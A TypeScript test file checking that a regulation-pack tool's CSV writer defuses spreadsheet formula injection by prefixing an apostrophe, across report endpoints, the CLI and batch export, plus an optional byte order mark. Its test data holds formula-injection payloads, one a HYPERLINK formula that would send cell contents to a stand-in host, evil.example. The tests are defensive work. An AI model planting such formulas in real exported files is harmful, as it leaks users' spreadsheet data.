// Issue 10, hole 8: a document number (or any text of a pack) starting with = + - @ reached the matrix, compare and
// sweep CSVs as a live formula. Every CSV is now written by one writer (adapters/render/csv.ts) that keeps such a
// cell as text, and a report's CSV can begin with a UTF-8 byte order mark (?bom=1, --bom) for Excel on Chinese Windows.
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, csvRecords, neutralized, UTF8_BOM } from '../adapters/render/csv.js';
import { makeApp } from './support/api.js';
import { runCliInProcess } from './support/cli.js';
import { cite, miniPack } from './fixtures/mini-pack.js';
import { parseCsv } from './support/rfc4180.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', '－1'];
/** What a spreadsheet would run: a field starting with a formula character (after spaces), or with a tab or CR. */
const LIVE = /^[\t\r]|^\s*[=+\-@＝＋－＠]/;

describe('the CSV writer (adapters/render/csv.ts)', () => {
  it.each(FORMULAS)('keeps %j as text, with a leading apostrophe', (text) => {
    expect(neutralized(text)).toBe(`'${text}`);
    const [[field]] = parseCsv(`${csvField(text)}\r\n`) as [[string]];
    expect(field).toBe(`'${text}`);
  });

  it('leaves other texts, numbers (a negative one too) and empty cells as they are', () => {
    for (const value of ['渝环〔2025〕21号', 'a-b', 'x=1', '', 'plain']) expect(neutralized(value)).toBe(value);
    expect(csvField(-5)).toBe('-5');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
  });

  it('still writes RFC 4180: quotes doubled, fields with commas and line breaks quoted, CRLF records', () => {
    const records = [['a, b', 'say "hi"', 'one\ntwo', '=1,2'], ['x', '', 3, null]];
    const text = csvRecords(records);
    expect(text).toBe('"a, b","say ""hi""","one\ntwo","\'=1,2"\r\nx,,3,\r\n');
    expect(parseCsv(text)).toEqual([['a, b', 'say "hi"', 'one\ntwo', "'=1,2"], ['x', '', '3', '']]);
  });

  it('begins with a UTF-8 byte order mark only when asked', () => {
    expect(csvRecords([['a']], { bom: true })).toBe(`${UTF8_BOM}a\r\n`);
    expect(csvRecords([['a']]).startsWith(UTF8_BOM)).toBe(false);
  });
});

describe('report CSVs of a pack whose words start with formulas', () => {
  const DOC = FORMULAS[0] as string;
  let packDir: string;
  let api: Awaited<ReturnType<typeof makeApp>>;

  beforeAll(async () => {
    // The mini pack, renamed, with a document number and texts that are formulas.
    const doc = miniPack() as unknown as Record<string, any>;
    doc.id = 'cn-chongqing-formula';
    doc.title = { zh: '@SUM(1,1)', en: '+1+1' };
    doc.documents[0].number = DOC;
    const recite = (node: unknown): void => {
      if (Array.isArray(node)) node.forEach(recite);
      else if (node && typeof node === 'object') {
        for (const [key, value] of Object.entries(node)) {
          if (key === 'citation' && value && typeof value === 'object') (value as { document: string }).document = DOC;
          else recite(value);
        }
      }
    };
    recite(doc);
    doc.rules[0].title = { zh: '=1+1', en: '-1+1' };
    doc.rules[0].citation = { ...cite('=1+1', DOC), en: '@note' };
    packDir = mkdtempSync(join(tmpdir(), 'tanzhong-csv-'));
    mkdirSync(join(packDir, doc.id));
    writeFileSync(join(packDir, doc.id, 'pack.json'), JSON.stringify(doc, null, 2));
    api = await makeApp(':memory:', undefined, [packDir]);
  });

  afterAll(async () => {
    await api.store.close();
  });

  const EVENT = encodeURIComponent(JSON.stringify({ kind: 'meeting', attendees: 250, meetingClass: 1, startDate: '2026-06-01', endDate: '2026-06-01', organizer: { type: 'soe' } }));
  const URLS = {
    matrix: '/v1/reports/matrix?packs=cn-chongqing-formula,cn-chongqing&format=csv&lang=en&asOf=2026-06-01',
    compare: `/v1/reports/compare?packs=cn-chongqing-formula,cn-chongqing&format=csv&lang=zh&event=${EVENT}`,
    sweep: '/v1/reports/sweep?packs=cn-chongqing-formula&format=csv&lang=en&asOf=2026-06-01',
  };

  it.each(Object.entries(URLS))('the %s CSV holds no live formula, and the document number as text', async (_, url) => {
    const res = await api.call('GET', url);
    expect(res.status).toBe(200);
    const records = parseCsv(res.text);
    const live = records.flat().filter((field) => LIVE.test(field));
    expect(live).toEqual([]);
    expect(records.flat().some((field) => field.includes(`'${DOC}`))).toBe(true);
  });

  /** The body's bytes: Response.text() would drop a byte order mark. */
  const bytes = async (url: string) => Buffer.from(await (await api.app.request(url)).arrayBuffer());

  it.each(Object.entries(URLS))('the %s CSV begins with a byte order mark with bom=1, and is otherwise the same', async (_, url) => {
    const plain = await bytes(url);
    const withBom = await bytes(`${url}&bom=1`);
    expect([...plain.subarray(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.subarray(3).equals(plain)).toBe(true);
  });

  it('refuses bom=1 for a format other than csv, saying why', async () => {
    const res = await api.call('GET', '/v1/reports/matrix?packs=cn-chongqing&format=md&bom=1');
    expect(res.status).toBe(422);
    expect(res.json.error.issues).toEqual([{ path: 'bom', message: 'a byte order mark is for format=csv only, not md: remove bom' }]);
  });

  it('tanzhong report --format csv --bom writes the byte order mark, and no live formula', async () => {
    const args = ['report', 'matrix', '--packs', 'cn-chongqing-formula', '--format', 'csv', '--lang', 'en', '--as-of', '2026-06-01', '--pack-dir', packDir];
    const withBom = await runCliInProcess([...args, '--bom']);
    expect(withBom.code).toBe(0);
    expect(withBom.stdout.startsWith(UTF8_BOM)).toBe(true);
    const plain = await runCliInProcess(args);
    expect(withBom.stdout).toBe(`${UTF8_BOM}${plain.stdout}`);
    expect(parseCsv(plain.stdout).flat().filter((field) => LIVE.test(field))).toEqual([]);
    const refused = await runCliInProcess([...args.slice(0, 5), 'md', '--bom']);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/--bom/);
  });

  it('the batch CSV is written by the same writer (full-width and spaced formulas too)', async () => {
    const event = (name: string) => ({ name, kind: 'meeting', attendees: 250, startDate: '2026-06-01', endDate: '2026-06-01' });
    const res = await api.call('POST', '/v1/evaluate/batch?format=csv', { pack: 'cn-chongqing', lang: 'en', events: FORMULAS.map(event) });
    expect(res.status).toBe(200);
    const [, ...rows] = parseCsv(res.text);
    expect(rows.map((row) => row[1])).toEqual(FORMULAS.map((f) => `'${f}`));
  });
});
